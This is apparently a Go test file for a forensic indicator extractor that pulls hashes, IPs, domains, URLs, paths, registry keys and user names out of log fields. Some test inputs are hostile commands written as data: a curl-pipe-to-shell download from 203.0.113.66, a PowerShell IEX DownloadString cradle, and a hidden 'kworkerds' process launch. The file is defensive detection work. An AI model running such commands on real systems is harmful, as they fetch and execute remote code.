package observable_test

import (
	"encoding/json"
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/velocicompanion/velocicompanion/ingest/observable"
)

const (
	md5    = "c7a06571f51f3493d20d057646020267"
	sha1   = "3e25e7dd858e9070807adcfc0241e4903486c3c8"
	sha256 = "16313da1bf9c4b7edfb44318bd922d6cf2bfd3b1031606d856f8835230e0081f"
)

// find returns what a value in a column holds, as "kind value".
func find(path, text string) []string {
	token, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	found := []string{}
	var f observable.Finder
	f.Find(path, token, func(kind observable.Kind, value []byte) { found = append(found, kind.String()+" "+string(value)) })
	return found
}

func TestFindsWhatArtifactsHold(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path, text string
		want       []string
	}{
		{"Hash.MD5", strings.ToUpper(md5), []string{"md5 " + md5}},
		{"Hash.SHA1", sha1, []string{"sha1 " + sha1}},
		{"Upload.sha256", sha256, []string{"sha256 " + sha256}},
		{"Hash", md5, []string{"md5 " + md5}},
		{"PE.ImpHash", md5, []string{"imphash " + md5}},
		{"IMP", strings.ToUpper(md5), []string{"imphash " + md5}},
		{"EventData.Hashes", "SHA1=" + sha1 + ",MD5=" + md5 + ",SHA256=" + sha256 + ",IMPHASH=" + strings.Repeat("AB", 16),
			[]string{"sha1 " + sha1, "md5 " + md5, "sha256 " + sha256, "imphash " + strings.Repeat("ab", 16)}},
		{"Laddr.IP", "10.77.0.11", []string{"ip 10.77.0.11"}},
		{"Raddr", "203.0.113.66", []string{"ip 203.0.113.66"}},
		{"RemoteAddr", "::ffff:203.0.113.66", []string{"ip 203.0.113.66"}},
		{"Address", "2001:0db8:0000:0000:0000:0000:0000:0001", []string{"ip 2001:db8::1"}},
		{"last_ip", "127.0.0.1:38978", []string{"ip 127.0.0.1"}},
		{"Network Info.IPAddresses", "10.77.0.11/24", []string{"ip 10.77.0.11"}},
		{"Network Info.IPAddresses", "fe80::42:acff:fe11:2/64", []string{"ip fe80::42:acff:fe11:2"}},
		{"EventData.QueryName", "Evil.Example.ORG.", []string{"domain evil.example.org"}},
		{"EventData.QueryName", "update.zip", []string{"domain update.zip"}},
		{"Record", "evil.unheardof", []string{"domain evil.unheardof"}},
		{"Name", "www.example.com", []string{"domain www.example.com"}},
		{"Name", "Install.sh", []string{"path install.sh"}},
		{"Hostname", "evil.com", []string{"domain evil.com"}},
		{"http.host", "evil.zip", []string{"path evil.zip"}},
		{"visited_url", "HTTPS://Evil.example.com:443/A?b=C#d", []string{"url https://evil.example.com/A?b=C", "domain evil.example.com"}},
		{"Command", "/usr/bin/curl -fsS http://203.0.113.66/p.sh | /bin/sh",
			[]string{"path /usr/bin/curl", "url http://203.0.113.66/p.sh", "ip 203.0.113.66", "path /bin/sh"}},
		{"Command", "pgrep -x kworkerds >/dev/null || /var/tmp/.cache/kworkerds >/dev/null 2>&1 &",
			[]string{"path /dev/null", "path /var/tmp/.cache/kworkerds", "path /dev/null"}},
		{"CommandLine", `"C:\Program Files\App\a.exe" /c C:\Temp\b.bat`, []string{`path c:\program files\app\a.exe`, `path c:\temp\b.bat`}},
		{"PathName", `C:\Program Files\App\a.exe -k x`, []string{`path c:\program files\app\a.exe`}},
		{"OSPath", `\\?\C:\Windows\System32\CMD.exe`, []string{`path c:\windows\system32\cmd.exe`}},
		{"OSPath", "/home/bob/odd/a b -c", []string{"path /home/bob/odd/a b -c"}},
		{"EntryPath", `c:\windows\system32\svchost.exe`, []string{`path c:\windows\system32\svchost.exe`}},
		{"OSPath", `HKEY_LOCAL_MACHINE\Software\Microsoft`, []string{`registry_key hklm\software\microsoft`}},
		{"EventData.TargetObject", `HKLM\System\Current Set\x`, []string{`registry_key hklm\system\current set\x`}},
		{"CommandLine", `reg add "HKCU\Soft Ware\Run" /v x`, []string{`registry_key hkcu\soft ware\run`}},
		{"Username", `CORP\Alice`, []string{`user corp\alice`, "user alice"}},
		{"AttemptedUser", "root", []string{"user root"}},
		{"UserSID", "S-1-5-18", []string{"sid S-1-5-18"}},
		{"Message", "Account S-1-5-21-1-2-3-1001 from 198.51.100.23.", []string{"sid S-1-5-21-1-2-3-1001", "ip 198.51.100.23"}},
		{"Comment", "root@kali.example.org", []string{"email root@kali.example.org", "domain kali.example.org"}},
		{"Details", `Cmd: x ¦ Proc: C:\a\b.exe ¦ Tgt: 10.1.2.3:443`, []string{`path c:\a\b.exe`, "ip 10.1.2.3"}},
		{"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/x?u=http://b.example.com/')",
			[]string{"url http://a.example.com/x?u=http://b.example.com/", "domain a.example.com", "url http://b.example.com/", "domain b.example.com"}},
		{"Path", `\\files.example.com\share\x`, []string{`path \\files.example.com\share\x`, "domain files.example.com"}},
		{"OSPath", "/quarantine/" + sha256 + ".bin", []string{"path /quarantine/" + sha256 + ".bin", "sha256 " + sha256}},
	} {
		require.Equal(t, c.want, find(c.path, c.text), "%s: %s", c.path, c.text)
	}
}

func TestFindsNothingInWhatOnlyLooksLikeIt(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{"Hash.MD5", "d41d8cd98f00b204e9800998ecf8427e"},
		{"Hash.SHA1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"Hash.SHA256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"},
		{"Hash", "0XDB95245D"}, {"Name", "svchost.exe"}, {"Name", "systemd-journald.service"}, {"Text", "an install.sh of libssl.so"},
		{"Fqdn", "web01.corp.example"}, {"Computer", "DC1.corp.local"}, {"Laddr", "0.0.0.0"}, {"Laddr", "::"}, {"Laddr", "0000:0000:0000:0000:0000:0000:0000:0000"},
		{"Version", "10.0.19041.1"}, {"FileVersion", "10.0.0.1"}, {"Message", "Version=4.0.0.0, Culture=neutral"}, {"Version", "1.2.3.4-1ubuntu1"},
		{"SourceIP", "LOCAL"}, {"SourceIP", "null"}, {"SourceIP", "-"}, {"User", "1000"}, {"Username", "-"}, {"Username", ""},
		{"MAC", "00:11:22:33:44:55"}, {"Time", "12:34:56"}, {"TS", "2026-11-23T17:39:32Z"}, {"GUID", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"},
		{"Text", "std::string and a/b and c:d"}, {"Name", "bücher.de"}, {"Technique", "attack.t1059"}, {"CommandLine", "cmd /c dir"},
		{"SHA512", strings.Repeat("a", 128)}, {"Text", "1.2.3.4.5"}, {"Text", "999.1.1.1"}, {"Text", "01.2.3.4"},
	} {
		require.Empty(t, find(c[0], c[1]), "%s: %s", c[0], c[1])
	}
	var f observable.Finder
	for _, token := range []string{"1", "null", "true", "{}", "[]", `""`, "12345678901234567890123456789012"} {
		f.Find("Hash", []byte(token), func(observable.Kind, []byte) { t.Error(token) })
	}
}

func TestReadsEscapedTokens(t *testing.T) {
	t.Parallel()
	var f observable.Finder
	var found []string
	f.Find("Message", []byte(`"\u0031\u0030.1.2.3\u003cb\u003e\u0000\ud83d\ude00\ud800 http:\/\/a.example.com\/x"`), func(kind observable.Kind, value []byte) {
		found = append(found, kind.String()+" "+string(value))
	})
	require.Equal(t, []string{"ip 10.1.2.3", "url http://a.example.com/x", "domain a.example.com"}, found)
}

func TestParsesWhatSomebodyLooksFor(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		strings.ToUpper(md5): "md5 " + md5, " " + sha1 + " ": "sha1 " + sha1, `"` + sha256 + `",`: "sha256 " + sha256,
		"203.0.113[.]66": "ip 203.0.113.66", "203[.]0[.]113[.]66:4443": "ip 203.0.113.66", "[2001:db8::1]:443": "ip 2001:db8::1",
		"fe80::1%eth0": "ip fe80::1", "10.0.0.1/24": "ip 10.0.0.1", "evil[.]example": "domain evil.example", "Evil(dot)COM": "domain evil.com",
		"hxxp://nothing[.]example/x": "url http://nothing.example/x", "hXXps[:]//evil.com": "url https://evil.com/", "evil.com/x": "url http://evil.com/x",
		"bob[at]evil[.]com": "email bob@evil.com", "/var/tmp/.cache/kworkerds": "path /var/tmp/.cache/kworkerds",
		`C:/Users/Bob\x.EXE`: `path c:\users\bob\x.exe`, `HKEY_LOCAL_MACHINE\SOFTWARE\Run\`: `registry_key hklm\software\run`, "s-1-5-18": "sid S-1-5-18",
		`NT AUTHORITY\SYSTEM`: `user nt authority\system`, `CORP\alice`: `user corp\alice`, `system32\cmd.exe`: `path system32\cmd.exe`,
	} {
		o, ok := observable.Parse(text)
		require.True(t, ok, text)
		require.Equal(t, want, o.Kind.String()+" "+o.Value, text)
	}
	for _, text := range []string{
		"", "not an indicator at all", "alice", "svchost.exe", "0.0.0.0", "::", "*.evil.com", "1.2.3", "http://", "hxxp://", "a b.com", "12:34:56", `\`, "/", "a/b",
	} {
		_, ok := observable.Parse(text)
		require.False(t, ok, text)
	}
}

func TestTellsNetworksFromAddresses(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]struct {
		normal string
		size   uint64
	}{
		"10.0.0.5/8": {"10.0.0.0/8", 1 << 24}, " 10[.]0[.]0[.]0/31 ": {"10.0.0.0/31", 2}, "2001:db8::/120": {"2001:db8::/120", 256},
		"2001:db8::/65": {"2001:db8::/65", 1 << 63}, "2001:db8::/64": {"2001:db8::/64", math.MaxUint64}, "2001:db8::/32": {"2001:db8::/32", math.MaxUint64},
		"203.0.113.9-203.0.113.20": {"203.0.113.9-203.0.113.20", 12}, "10.0.0.255 - 10[.]0.1.0": {"10.0.0.255-10.0.1.0", 2},
		"10.0.0.7-10.0.0.7": {"10.0.0.7-10.0.0.7", 1}, "10.0.0.9-10.0.0.1": {"10.0.0.9-10.0.0.1", 0}, "10.0.0.1/33": {"", 0},
	} {
		n, ok := observable.ParseNetwork(text)
		require.True(t, ok, text)
		require.Equal(t, want.normal, n.String(), text)
		require.Equal(t, want.size, n.Size(), text)
	}
	for _, text := range []string{
		"10.0.0.1/32", "2001:db8::1/128", "10.0.0.1", "10.0.0.1:80", "10.0.0.1/p.sh", "10.0.0.1/0008", "/etc/10", "", "a/8", "10.0.0.1-", "-", "10.0.0.1-x",
		"10.0.0.1-2001:db8::1", "a-b.com",
	} {
		_, ok := observable.ParseNetwork(text)
		require.False(t, ok, text)
	}
	addresses := func(text string) []observable.Observable {
		n, _ := observable.ParseNetwork(text)
		return slices.Collect(n.All())
	}
	ip := func(value string) observable.Observable {
		return observable.Observable{Kind: observable.IP, Value: value}
	}
	require.Equal(t, []observable.Observable{ip("10.0.0.4"), ip("10.0.0.5"), ip("10.0.0.6"), ip("10.0.0.7")}, addresses("10.0.0.5/30"))
	require.Equal(t, []observable.Observable{ip("10.0.0.255"), ip("10.0.1.0")}, addresses("10.0.0.255-10.0.1.0"))
	require.Equal(t, []observable.Observable{ip("2001:db8::2"), ip("2001:db8::3")}, addresses("2001:db8::3/127"))
	require.Equal(t, []observable.Observable{ip("255.255.255.254"), ip("255.255.255.255")}, addresses("255.255.255.254/31"))
	require.Empty(t, addresses("10.0.0.9-10.0.0.1"))
}

func TestADomainIsTheSameInTheLettersOfItsLanguage(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"bücher.example": "domain xn--bcher-kva.example", "XN--BCHER-KVA.example": "domain xn--bcher-kva.example", "BÜCHER[.]example.": "domain xn--bcher-kva.example",
		"bu\u0308cher.example": "domain xn--bcher-kva.example", "пример.рф": "domain xn--e1afmkfd.xn--p1ai", "_dmarc.bücher.example": "domain _dmarc.xn--bcher-kva.example",
		"hxxp://bob@Bücher[.]example:8080/Ä?q=ü@x": "url http://bob@xn--bcher-kva.example:8080/Ä?q=ü@x", "bücher.example/x": "url http://xn--bcher-kva.example/x",
		"bob@bücher.example": "email bob@xn--bcher-kva.example", "http://evil.com/ä": "url http://evil.com/ä",
		`C:\Bücher\x`: `path c:\bücher\x`, "/home/bücher.example": "path /home/bücher.example", `CORP\müller`: `user corp\müller`,
	} {
		o, _ := observable.Parse(text)
		require.Equal(t, want, o.Kind.String()+" "+o.Value, text)
	}
	for _, text := range []string{"müller", "größe/x", "bücher.txt", "\u200d.example", "ü ü.example"} {
		require.Empty(t, observable.Same(text), text)
	}
}

func TestTheURLOfAFileIsItsPath(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"file:///C:/Program%20Files/A.exe": `path c:\program files\a.exe`, "FILE:///etc/passwd": "path /etc/passwd", "file://localhost/etc/passwd": "path /etc/passwd",
		"file://srv/share/x": `path \\srv\share\x`, "file:///tmp/100%": "path /tmp/100%", "file://localhost/c:/x": `path c:\x`,
	} {
		o, _ := observable.Parse(text)
		require.Equal(t, want, o.Kind.String()+" "+o.Value, text)
	}
	require.Contains(t, observable.Same("file://srv/share/x"), observable.Observable{Kind: observable.URL, Value: "file://srv/share/x"})
	for _, text := range []string{"file://", "file:///"} {
		require.Empty(t, observable.Same(text), text)
	}
}

func TestLooksUpAmbiguousTextsAsAllTheyCanBe(t *testing.T) {
	t.Parallel()
	require.Equal(t, []observable.Observable{{Kind: observable.MD5, Value: md5}, {Kind: observable.ImpHash, Value: md5}}, observable.Same(md5))
	require.Equal(t, []observable.Observable{{Kind: observable.User, Value: `corp\al`}, {Kind: observable.Path, Value: `corp\al`}}, observable.Same(`CORP\al`))
	require.Equal(t, []observable.Observable{{Kind: observable.Domain, Value: "evil.sh"}, {Kind: observable.Path, Value: "evil.sh"}}, observable.Same("Evil.sh"))
	require.Equal(t, []observable.Observable{{Kind: observable.URL, Value: "http://evil.com/x"}, {Kind: observable.URL, Value: "https://evil.com/x"}},
		observable.Same("evil.com/x"))
}

// Stored indexes hold these numbers.
func TestHashesNeverChange(t *testing.T) {
	t.Parallel()
	require.Equal(t, uint32(0xf8fe7104), observable.Observable{Kind: observable.MD5, Value: md5}.Hash())
	require.Equal(t, uint32(0xcfcf8066), observable.Observable{Kind: observable.ImpHash, Value: md5}.Hash())
	require.Equal(t, uint32(0x26af903c), observable.Observable{Kind: observable.RegistryKey, Value: `hklm\x`}.Hash())
	var f observable.Finder
	require.Equal(t, []uint32{7, 0xf8fe7104}, f.AppendHashes([]uint32{7}, "MD5", []byte(`"`+strings.ToUpper(md5)+`"`)))
}

// FuzzFind holds that nothing panics, that hashes do what they say, and that what is found is in normal form: parsed
// again it is itself.
func FuzzFind(f *testing.F) {
	for _, text := range []string{"SHA1=" + sha1, `C:\a b\c.exe -x http://a.com/http://b.com`, "::1 a@b.co S-1-5-18 \\\\srv.com\\x", "\"/a/b", "%a%\\b", "hku\\"} {
		f.Add("CommandLine", text)
		f.Add("Username", text)
		f.Add("Path", text)
	}
	f.Fuzz(func(t *testing.T, path, text string) {
		token, err := json.Marshal(text)
		require.NoError(t, err)
		var finder observable.Finder
		var hashes []uint32
		finder.Find(path, token, func(kind observable.Kind, value []byte) {
			require.NotEmpty(t, kind.String())
			require.NotEmpty(t, value)
			o := observable.Observable{Kind: kind, Value: string(value)}
			hashes = append(hashes, o.Hash())
			if kind <= observable.IP || kind == observable.SID {
				require.Contains(t, observable.Same(o.Value), o)
			}
		})
		require.Equal(t, hashes, finder.AppendHashes(nil, path, token))
		for _, o := range observable.Same(text) {
			require.NotEmpty(t, o.Value)
		}
		finder.Find(path, []byte(text), func(observable.Kind, []byte) {})
	})
}

func BenchmarkFind(b *testing.B) {
	for _, c := range []struct{ name, path, token string }{
		{"nothing", "Name", `"systemd-logind"`},
		{"program", "Name", `"svchost.exe"`},
		{"sha256", "Hash.SHA256", `"` + sha256 + `"`},
		{"address", "Raddr", `"203.0.113.66"`},
		{"path", "Exe", `"C:\\Windows\\System32\\svchost.exe"`},
		{"command line", "CommandLine", `"C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog --verbose 17 x"`},
	} {
		b.Run(c.name, func(b *testing.B) {
			var f observable.Finder
			var hashes []uint32
			token := []byte(c.token)
			b.ReportAllocs()
			for b.Loop() {
				hashes = f.AppendHashes(hashes[:0], c.path, token)
			}
		})
	}
}
